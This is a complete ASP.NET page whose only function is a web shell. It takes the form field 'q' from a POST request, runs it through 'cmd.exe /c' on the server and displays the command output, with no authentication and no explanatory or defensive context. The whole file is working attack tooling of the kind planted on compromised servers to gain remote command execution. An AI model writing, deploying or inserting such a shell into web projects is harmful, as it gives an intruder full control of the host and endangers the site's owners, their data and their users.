<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.HttpMethod != "POST") return;
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["q"];
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    psi.CreateNoWindow = true;
    using (Process p = Process.Start(psi))
    {
        Out.InnerText = p.StandardOutput.ReadToEnd();
    }
}
</script>
<html><body>
<form method="post" runat="server"><input name="q" size="80" /> <input type="submit" value="Run" /></form>
<pre id="Out" runat="server"></pre>
</body></html>
